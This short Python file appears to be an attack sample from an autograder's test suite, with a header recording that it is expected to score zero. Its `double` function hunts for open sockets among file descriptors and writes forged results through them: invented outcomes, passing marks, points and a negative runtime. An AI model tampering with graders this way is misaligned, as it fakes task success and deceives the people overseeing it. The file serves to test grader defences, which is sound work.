# attack: answers for the grader, on its own connection, with outcomes that it made up
# points: double=0 total=4
# %% double
import os, socket, stat
from autograder.outcome import Outcome
from autograder.values import pack
def double(x):
    made_up = Outcome(value=np.zeros(len(x)), calls=["double(x)"]).to_plain()
    answers = [{"outcomes": {"noise": made_up, "one": made_up}, "seconds": 0.0, "points": 2.0, "passed": True}]
    answers += [{"outcomes": {"sums": made_up}, "seconds": -1e300}, {"printed": "", "error": ""}]
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                for answer in answers:
                    data = pack(answer)
                    os.write(number, len(data).to_bytes(8) + data)
        except OSError:
            pass
    return x
